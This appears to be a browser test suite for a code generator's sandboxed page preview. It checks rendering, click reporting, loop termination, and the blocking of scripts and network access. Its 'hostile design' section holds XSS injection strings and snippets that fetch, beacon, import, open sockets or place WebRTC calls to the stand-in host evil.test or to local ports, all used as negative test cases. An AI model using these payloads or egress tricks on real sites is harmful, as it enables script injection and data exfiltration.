import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { type AddressInfo, createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPreview, type PreviewExtras } from '#codegen/targets/result-pages';
import type { Libraries } from '#codegen/libraries';
import { readLibraries } from '#cli/read-libraries';
import { type CodeOptions, defaultCodeOptions } from '#design/code-options';
import type { CodeResult } from '#design/code-result';
import { describeTarget } from '#design/targets';
import { drawPixels, encodePng } from './draw-pixels.ts';
import { makeResult } from './make-result.ts';
import { launchBrowser, openPreview, type OpenPreview } from './open-preview.ts';

let browser: Browser;
let libraries: Libraries;
beforeAll(async () => {
  [browser, libraries] = await Promise.all([launchBrowser(), readLibraries()]);
});
afterAll(() => browser.close());

async function build(result: CodeResult, options: Partial<CodeOptions>, extras: PreviewExtras = {}) {
  const [page] = result.pages;
  if (!page) throw new Error('A result has a page.');
  return buildPreview(result, page, { ...defaultCodeOptions, ...options }, libraries, extras);
}

async function open(result: CodeResult, options: Partial<CodeOptions> = {}, extras: PreviewExtras = {}) {
  return openPreview(browser, await build(result, options, extras));
}

async function using<Answer>(
  preview: OpenPreview,
  use: (preview: OpenPreview) => Promise<Answer>,
): Promise<Answer> {
  try {
    return await use(preview);
  } finally {
    await preview.close();
  }
}

const colourOf = (selector: string) => `getComputedStyle(document.querySelector('${selector}')).color`;
const red = encodePng(drawPixels(3, 2, [255, 0, 0, 255]));

/** Two pages and a component, each with a class of the same name, pictures in script and style. */
const reactFiles = {
  'src/App.tsx': `import { Other } from './pages/Other';
import { Home } from './pages/Home';
import './tokens.css';
export function App() { return location.hash ? <Other /> : <Home />; }`,
  'src/tokens.css': ':root { --ink: rgb(1, 2, 3); } body { margin: 0; }',
  'src/pages/Other.tsx': "import './other.css';\nexport function Other() { return <p>Other</p>; }",
  'src/pages/other.css': 'p { color: rgb(9, 9, 9); }',
  'src/pages/Home.tsx': `import { useState } from 'react';
import { Card } from '../components/Card';
import red from '../assets/red.png';
import styles from './Home.module.css';
export function Home() {
  const [count, setCount] = useState(0);
  return (
    <main className={styles.title} data-node-id="1:1">
      <h1 className={styles.missing}>Home</h1>
      <Card title="One" />
      <img src={red} alt="" />
      <button data-node-id="1:2 1:3" onClick={() => setCount(count + 1)}>Pressed {count}</button>
      <a href="#/other" data-node-id="1:4">Other</a>
    </main>
  );
}`,
  'src/pages/Home.module.css':
    '.title { color: var(--ink); background: url("../assets/red.png") } .title:hover { opacity: 1 }',
  'src/components/Card.tsx': `import styles from './Card.module.css';
export interface CardProps { title: string }
export function Card({ title }: CardProps) { return <p className={styles.title}>{title}</p>; }`,
  'src/components/Card.module.css': '.title { color: rgb(4, 5, 6); }',
};
const reactResult = makeResult(reactFiles, {}, { 'src/assets/red.png': red });

describe('the preview of a React page', () => {
  it('runs the page with its own styles and pictures', async () => {
    await using(await open(reactResult), async (preview) => {
      await preview.take('ready');
      expect(await preview.evaluate('document.body.innerText.replace(/\\s+/g, " ").trim()')).toBe(
        'Home One Pressed 0Other',
      );
      expect(await preview.evaluate(colourOf('main'))).toBe('rgb(1, 2, 3)');
      expect(await preview.evaluate(colourOf('p'))).toBe('rgb(4, 5, 6)');
      expect(await preview.evaluate('document.images[0].naturalWidth')).toBe(3);
      expect(
        await preview.evaluate("getComputedStyle(document.querySelector('main')).backgroundImage"),
      ).toContain('data:image/png');
      expect(await preview.evaluate('document.body.dataset.ready')).toBe('');
      expect(await preview.requests()).toEqual([]);
    });
  });

  it('is interactive: state changes on a click, and the click is reported with its layers', async () => {
    await using(await open(reactResult), async (preview) => {
      await preview.take('ready');
      await preview.page.frameLocator('iframe').getByRole('button').click();
      expect(await preview.take('element-clicked')).toEqual({
        type: 'element-clicked',
        nodeIds: ['1:2', '1:3'],
      });
      expect(await preview.evaluate("document.querySelector('button').innerText")).toBe('Pressed 1');
    });
  });

  it('follows no link, but reports it', async () => {
    await using(await open(reactResult), async (preview) => {
      await preview.take('ready');
      await preview.page.frameLocator('iframe').getByRole('link').click();
      expect(await preview.take('link-clicked')).toEqual({ type: 'link-clicked', address: '#/other' });
      expect(await preview.evaluate('location.hash')).toBe('');
    });
  });

  it('compiles Tailwind for the classes that the page uses', async () => {
    const result = makeResult(
      {
        'src/App.tsx':
          "import './index.css';\nimport { Home } from './pages/Home';\nexport const App = Home;",
        'src/index.css':
          '@import "tailwindcss";\n@import "./tokens.css";\n@theme inline { --color-brand: var(--brand); }',
        'src/tokens.css': ':root { --brand: rgb(7, 8, 9); }',
        'src/pages/Home.tsx': `const wide = true;
const picture = "[background:url('./assets/red.png')]";
export function Home() {
  return <main className={\`p-[7px] \${picture} \${wide ? 'text-brand' : ''}\`}>Home</main>;
}`,
      },
      {},
      { 'src/assets/red.png': red },
    );
    await using(await open(result, { styles: 'tailwind' }), async (preview) => {
      await preview.take('ready');
      expect(await preview.evaluate(colourOf('main'))).toBe('rgb(7, 8, 9)');
      expect(await preview.evaluate("getComputedStyle(document.querySelector('main')).padding")).toBe('7px');
      const picture = "getComputedStyle(document.querySelector('main')).backgroundImage";
      expect(await preview.evaluate(picture)).toMatch(/^url\("data:image\/png/);
    });
  });

  it.each([
    ['throws while it renders', "export function Home() { throw new Error('no luck'); }", 'no luck'],
    ['throws while it loads', "throw new Error('no luck');", 'no luck'],
    [
      'imports what is not there',
      "import { x } from './gone';\nexport function Home() { return <p>{x}</p>; }",
      '"./gone" is not there',
    ],
    ['exports nothing', 'export {};', 'exports no component'],
    ['is no script at all', 'export function Home( {', 'src/pages/Home.tsx, line 1: '],
  ])('reports when the page %s', async (_what, text, message) => {
    await using(await open(makeResult({ 'src/pages/Home.tsx': text })), async (preview) => {
      expect((await preview.take('failed')).message.toLowerCase()).toContain(message.toLowerCase());
    });
  });

  it.each([
    ['as it loads', 'while (true);\nexport const Home = () => <p>Home</p>;'],
    ['as it renders', 'export function Home() { for (let n = 0; ; n += 1) if (n < 0) return <p>{n}</p>; }'],
    [
      'and catches what ends it',
      'do { try { for (;;); } catch {} } while (true);\nexport const Home = () => <p/>;',
    ],
    [
      'over what never ends',
      'function* all() { while (true) yield 1; }\nfor (const one of all()) one;\nexport const Home = () => <p/>;',
    ],
    ['between promises', 'void (async () => { for (;;) await null; })();\nexport const Home = () => <p/>;'],
  ])('ends a page that loops %s, and reports it', async (_how, text) => {
    await using(await open(makeResult({ 'src/pages/Home.tsx': text })), async (preview) => {
      expect((await preview.take('failed')).message).toBe('A loop did not end within 3 seconds.');
    });
  });

  it('lets long work be done that is no loop without end', async () => {
    const text =
      'let sum = 0;\nfor (let n = 0; n < 2_000_000; n += 1) sum += n;\nlabel: for (const a of [1, 2]) for (const b of [1, 2]) { if (b === 2) continue label; sum += a; }\nexport const Home = () => <p>{sum}</p>;';
    await using(await open(makeResult({ 'src/pages/Home.tsx': text })), async (preview) => {
      await preview.take('ready');
      expect(await preview.evaluate('document.body.innerText.trim()')).toBe('1999999000003');
    });
  });

  it('is the same bytes for the same files', async () => {
    expect(await build(reactResult, {})).toBe(await build(reactResult, {}));
  });

  it('takes fonts along', async () => {
    const css =
      '@font-face { font-family: Test; src: url("data:font/woff2;base64,AAAA") } p { color: rgb(3, 3, 3) }';
    await using(await open(reactResult, {}, { css }), async (preview) => {
      await preview.take('ready');
      expect(await preview.evaluate('document.fonts.size')).toBe(1);
    });
  });
});

describe('what a preview reports', () => {
  it('describes the page as markup that an SVG can hold', async () => {
    await using(await open(reactResult), async (preview) => {
      await preview.take('ready');
      await preview.send({ type: 'highlight', nodeIds: ['1:4'] });
      await preview.send({ type: 'describe', requestId: 7 });
      const described = await preview.take('described');
      expect(described).toMatchObject({ requestId: 7, width: 400 });
      expect(described.boxes['1:1']?.[0]).toMatchObject({ x: 0, width: 400 });
      expect(described.boxes['1:3']).toEqual(described.boxes['1:2']);
      expect(described.html).toContain('rgb(4, 5, 6)');
      expect(described.html).not.toMatch(/<script|data-highlighted=/);
      expect(await drawInSvg(preview, described.html)).toEqual([400, 300]);
    });
  });

  it('outlines the elements of layers, and takes the outline away', async () => {
    await using(await open(reactResult), async (preview) => {
      await preview.take('ready');
      const outlined =
        "[...document.querySelectorAll('main, button, a')].filter((e) => getComputedStyle(e).outlineStyle === 'solid').map((e) => e.tagName)";
      const settle = () => preview.send({ type: 'describe' }).then(() => preview.take('described'));
      await preview.send({ type: 'highlight', nodeIds: ['1:3', '1:4'] });
      await settle();
      expect(await preview.evaluate(outlined)).toEqual(['BUTTON', 'A']);
      await preview.send({ type: 'highlight', nodeIds: [] });
      await settle();
      expect(await preview.evaluate(outlined)).toEqual([]);
    });
  });
});

/** Draws markup in an image of 400 by 300 px; the size of what came of it. */
function drawInSvg(preview: OpenPreview, html: string): Promise<readonly number[]> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><foreignObject width="100%" height="100%">${html}</foreignObject></svg>`;
  return preview.page.evaluate(`(async () => {
    const image = new Image();
    image.src = 'data:image/svg+xml,' + encodeURIComponent(${JSON.stringify(svg)});
    await image.decode();
    return [image.width, image.height];
  })()`);
}

const htmlFiles = {
  'index.html': `<!doctype html>
<html lang="en">
  <head>
    <title>Home</title>
    <link rel="stylesheet" href="tokens.css" />
    <link rel="stylesheet" href="./styles.css" />
    <style>h1 { color: rgb(2, 2, 2) }</style>
  </head>
  <body class="page">
    <h1 data-node-id="1:1">Home</h1>
    <p style="background: url(assets/red.png)">Text</p>
    <img src="assets/red.png" alt="" />
    <a href="other.html">Other</a>
  </body>
</html>`,
  'tokens.css': ':root { --ink: rgb(1, 1, 1) }',
  'styles.css': '@import "more.css"; p { color: var(--ink) }',
  'more.css': 'a { color: rgb(5, 5, 5) }',
};

describe('the preview of an HTML page', () => {
  it('shows the page with its style sheets and pictures inside', async () => {
    const result = makeResult(htmlFiles, { path: 'index.html' }, { 'assets/red.png': red });
    await using(await open(result, { target: 'html' }), async (preview) => {
      await preview.take('ready');
      expect(await preview.evaluate(colourOf('h1'))).toBe('rgb(2, 2, 2)');
      expect(await preview.evaluate(colourOf('p'))).toBe('rgb(1, 1, 1)');
      expect(await preview.evaluate(colourOf('a'))).toBe('rgb(5, 5, 5)');
      expect(await preview.evaluate('document.images[0].naturalWidth')).toBe(3);
      expect(await preview.evaluate('document.body.className')).toBe('page');
      await preview.page.frameLocator('iframe').getByRole('link').click();
      expect((await preview.take('link-clicked')).address).toBe('other.html');
      expect(await preview.requests()).toEqual([]);
    });
  });
});

/** Everything that could make a page run or fetch something; it would set \`hacked\` or ask for \`evil.test\`. */
const hostile = [
  '</script><script>hacked=1</script>',
  '<!--<script>hacked=2</script>',
  '</style><script>hacked=3</script>',
  '</title><script>hacked=4</script>',
  '"><img src=x onerror=hacked=5>',
  '${hacked=6}',
  '`+(hacked=7)+`',
  '{{constructor.constructor("hacked=8")()}}',
  '\u2028hacked=9\u2029',
  '*/ hacked=10 /*',
  '\\u003cscript>hacked=11',
];

/** Servers of all kinds on this machine, which record every connection. */
async function listen() {
  const seen: string[] = [];
  const udp = createSocket('udp4').on('message', () => seen.push('udp'));
  const tcp = createServer((socket) => {
    seen.push('tcp');
    socket.destroy();
  });
  await Promise.all([
    once(udp.bind(0, '127.0.0.1'), 'listening'),
    once(tcp.listen(0, '127.0.0.1'), 'listening'),
  ]);
  return {
    udp: udp.address().port,
    tcp: (tcp.address() as AddressInfo).port, // A server that listens on TCP has one.
    seen: () => [...seen],
    forget: () => void seen.splice(0),
    async close() {
      udp.close();
      tcp.close();
      await once(tcp, 'close');
    },
  };
}

interface Ports {
  readonly udp: number;
  readonly tcp: number;
}

const call = (servers: string) => `
  const line = new RTCPeerConnection({ iceServers: [${servers}] });
  line.createDataChannel('x');
  line.createOffer().then((offer) => line.setLocalDescription(offer));`;
const stun = ({ udp }: Ports) => call(`{ urls: 'stun:127.0.0.1:${udp}' }`);
const element = (name: string, more: string) =>
  `const made = document.createElement('${name}'); ${more}; document.body.append(made);`;
/** A digest and a nonce as the page itself has them, for scripts that would pass for one of its own. */
const pose =
  "made.nonce = document.querySelector('script')?.nonce ?? ''; made.integrity = 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='";

/** A browser gathers no address for a call on a machine with loopback only. */
const callsAreSeen = Object.values(networkInterfaces())
  .flat()
  .some((address) => address?.internal === false);

/** What a script could try that no word of a policy forbids, and whether an ordinary page gets through with it. */
const waysOut: readonly (readonly [what: string, write: (ports: Ports) => string, isSeen: boolean])[] = [
  ['a call between browsers', stun, callsAreSeen],
  [
    'a call over TCP',
    ({ tcp }) => call(`{ urls: 'turn:127.0.0.1:${tcp}?transport=tcp', username: 'a', credential: 'b' }`),
    callsAreSeen,
  ],
  [
    'the older name of a call',
    (ports) => stun(ports).replace('RTCPeerConnection', 'webkitRTCPeerConnection'),
    callsAreSeen,
  ],
  [
    'a call out of an empty frame',
    (ports) => `${element('iframe', '')} const { RTCPeerConnection } = made.contentWindow; ${stun(ports)}`,
    false,
  ],
  [
    'a call out of a frame with a document',
    (ports) =>
      element(
        'iframe',
        `made.srcdoc = '<script nonce="' + (document.querySelector('script')?.nonce ?? '') + '">' + ${JSON.stringify(stun(ports))} + '<' + '/script>'`,
      ),
    callsAreSeen,
  ],
  ['an import', () => `import('http://evil.test/a.js').catch(() => {});`, true],
  ['a script from elsewhere', () => element('script', `made.src = 'http://evil.test/a.js'; ${pose}`), true],
  ['a fetch', () => `fetch('http://evil.test/').catch(() => {});`, true],
  ['a beacon', () => `navigator.sendBeacon('http://evil.test/', 'x');`, true],
  ['a picture', () => `new Image().src = 'http://evil.test/a.png';`, true],
  ['a socket', () => `new WebSocket('ws://evil.test/');`, true],
  ['a worker', () => `new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.test/')"])));`, false],
  [
    'a connection ahead',
    () => element('link', `made.rel = 'preconnect'; made.href = 'https://evil.test/'`),
    false,
  ],
  ['a fetch ahead', () => element('link', `made.rel = 'prefetch'; made.href = 'http://evil.test/'`), false],
  ['a style sheet', () => element('link', `made.rel = 'stylesheet'; made.href = 'http://evil.test/'`), true],
  [
    'a form',
    () => element('form', `made.action = 'http://evil.test/'; document.body.append(made); made.submit()`),
    false,
  ],
  ['a window', () => `window.open('http://evil.test/');`, false],
  ['an object', () => element('object', `made.data = 'http://evil.test/'`), false],
  ['a frame', () => element('iframe', `made.src = 'http://evil.test/'`), true],
  [
    'markup',
    () => `document.body.insertAdjacentHTML('beforeend', '<img src=http://evil.test/b.png>');`,
    true,
  ],
];

describe('a hostile design', () => {
  it('would be caught: an ordinary page runs and fetches', async () => {
    const html =
      '<img src="https://evil.test/a.png"><img src="http://evil.test/b.png"><script>hacked=1; parent.postMessage({ type: "ready" }, "*")</script>';
    await using(await openPreview(browser, html), async (preview) => {
      await preview.take('ready');
      expect(await preview.evaluate('typeof hacked')).toBe('number');
      expect(await preview.requests()).toEqual(['evil.test:443', 'http://evil.test/b.png']);
    });
  });

  it('runs nothing in React, and its texts arrive as they are', async () => {
    const result = makeResult({
      'src/pages/Home.tsx': `import styles from './Home.module.css';
// ${hostile.join(' ').replace(/[\u2028\u2029]/g, ' ')}
export function Home() {
  return <main className={styles.a} title={${JSON.stringify(hostile.join(''))}}>{${JSON.stringify(hostile)}.map((text) => <p key={text}>{text}</p>)}
    <a href="javascript:hacked=12">link</a><img src="https://evil.test/a.png" alt="" /></main>;
}`,
      'src/pages/Home.module.css': `.a::after { content: "</style><script>hacked=13</script>"; background: url(https://evil.test/b.png) }
@import "https://evil.test/c.css";
@font-face { font-family: x; src: url(//evil.test/d.woff2) }`,
    });
    await using(await open(result), async (preview) => {
      await preview.take('ready');
      expect(await preview.evaluate("[...document.querySelectorAll('p')].map((p) => p.textContent)")).toEqual(
        hostile,
      );
      await preview.page.frameLocator('iframe').getByText('link').click();
      await preview.take('link-clicked');
      expect(await preview.evaluate('typeof hacked')).toBe('undefined');
      expect(await preview.evaluate("document.querySelectorAll('script').length")).toBe(4);
      expect(await preview.requests()).toEqual([]);
    });
  });

  it.each(waysOut)('asks nobody anything by way of %s', async (_what, write, isSeen) => {
    const network = await listen();
    try {
      const attack = write(network);
      const ordinary = `<script>${attack}\n;parent.postMessage({ type: 'ready' }, '*');</script>`;
      if (isSeen) {
        await using(await openPreview(browser, `<body>${ordinary}`), async (preview) => {
          await preview.take('ready');
          await expect.poll(async () => [...network.seen(), ...(await preview.requests())]).not.toEqual([]);
        });
        network.forget();
      }
      const text = `export function Home() {\n  useEffect(() => { ${attack} }, []);\n  return <p>Home</p>;\n}`;
      const files = { 'src/pages/Home.tsx': `import { useEffect } from 'react';\n${text}` };
      await using(await open(makeResult(files)), async (preview) => {
        await preview.take('ready');
        await preview.evaluate(
          'new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))',
        );
        // The same by hand, after the page has started.
        await preview.evaluate(`(async () => { ${attack} })().catch(() => {})`);
        await preview.send({ type: 'describe' });
        await preview.take('described');
        expect(await preview.requests()).toEqual([]);
        // A call that gets no answer is repeated within this time.
        await preview.evaluate('new Promise((done) => setTimeout(done, 300))');
        expect(network.seen()).toEqual([]);
      });
    } finally {
      await network.close();
    }
  });

  // The Chromium of the tests never connects ahead; other browsers do, so the element itself is looked for.
  it.each([
    ['a name', "document.createElement('LINK')"],
    ['a name and a namespace', "document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link')"],
    [
      'a document of its own',
      "document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link').documentElement",
    ],
    ['markup that a browser calls safe', "(document.body.setHTML(links, { sanitizer: {} }), '')"],
    [
      'a document of such markup',
      "document.importNode(Document.parseHTML(links, { sanitizer: {} }).querySelector('link'))",
    ],
    [
      'a name, with expressions that find nothing',
      "(RegExp.prototype.exec = () => null, document.createElement('link'))",
    ],
    [
      'a name, with another look at texts',
      "(String.prototype.slice = () => 'p', document.createElement('link'))",
    ],
    [
      'a name, with other texts',
      "(globalThis.String = () => ({ slice: () => 'p', lastIndexOf: () => 0, toString: () => 'link' }), document.createElement('link'))",
    ],
  ])('makes no element that connects ahead out of %s', async (_what, make) => {
    const count = `(() => {
      const links = '<link rel="preconnect">';
      try { document.body.append(${make}); } catch {}
      return document.querySelectorAll('link').length;
    })()`;
    await using(await openPreview(browser, '<body>'), async (preview) => {
      expect(await preview.evaluate(count)).toBe(1);
    });
    await using(await open(reactResult), async (preview) => {
      await preview.take('ready');
      expect(await preview.evaluate(count)).toBe(0);
    });
  });

  it.each(['react', 'html'] as const)('has no name looked up ahead in %s', async (target) => {
    const result =
      describeTarget(target).pages === 'document'
        ? makeResult(htmlFiles, { path: 'index.html' })
        : reactResult;
    await using(await open(result, { target }), async (preview) => {
      await preview.take('ready');
      const meta = 'document.head.querySelector(\'meta[http-equiv="x-dns-prefetch-control"]\')';
      expect(await preview.evaluate(`${meta}?.content`)).toBe('off');
    });
  });

  it.each([
    ['a script', '<script>hacked=1</script>'],
    ['a script from elsewhere', '<script src="https://evil.test/a.js"></script>'],
    ['a module', '<script type="module">hacked=1</script>'],
    ['a script in SVG', '<svg><script>hacked=1</script></svg>'],
    ['an event handler', '<img src=x onerror="hacked=1"><body onload="hacked=1"><svg onload="hacked=1">'],
    [
      'a frame',
      '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><iframe src="javascript:parent.hacked=1"></iframe>',
    ],
    ['an object', '<object data="https://evil.test/a.swf"></object><embed src="https://evil.test/a">'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test/">'],
    ['a base', '<base href="https://evil.test/"><img src="a.png">'],
    [
      'a form',
      '<form action="https://evil.test/"><button formaction="javascript:hacked=1">b</button></form>',
    ],
    [
      'a link',
      '<a href="javascript:hacked=1">b</a><svg><a xlink:href="javascript:hacked=1"><text>b</text></a></svg>',
    ],
    [
      'pictures from elsewhere',
      '<img srcset="https://evil.test/a.png 1x" src="//evil.test/b.png"><video poster="https://evil.test/c.png"></video>',
    ],
    [
      'styles from elsewhere',
      '<link rel="stylesheet" href="https://evil.test/a.css"><style>@import "https://evil.test/b.css"; p { background: url(https://evil.test/c.png) }</style><p style="background:url(//evil.test/d.png)">b</p>',
    ],
    [
      'a hidden script',
      '<noscript><p title="</noscript><script>hacked=1</script>"></noscript><xmp><script>hacked=1</script></xmp><template><script>hacked=1</script></template>',
    ],
    ['a head that is none', '<!-- <head> --><p title="<head></body></html>">b</p>'],
  ])('runs and fetches nothing in HTML: %s', async (_what, body) => {
    const html = `<!doctype html><html lang="en"><head class="x"><title>t</title></head><body><p>here</p>${body}</body></html>`;
    const result = makeResult({ 'index.html': html }, { path: 'index.html' });
    await using(await open(result, { target: 'html' }), async (preview) => {
      await preview.take('ready');
      const button = preview.page.frameLocator('iframe').getByText('b', { exact: true }).first();
      if ((await button.count()) > 0) await button.click();
      await preview.send({ type: 'describe' });
      expect((await preview.take('described')).html).toContain('here');
      expect(await preview.evaluate('typeof hacked')).toBe('undefined');
      expect(await preview.requests()).toEqual([]);
    });
  });
});
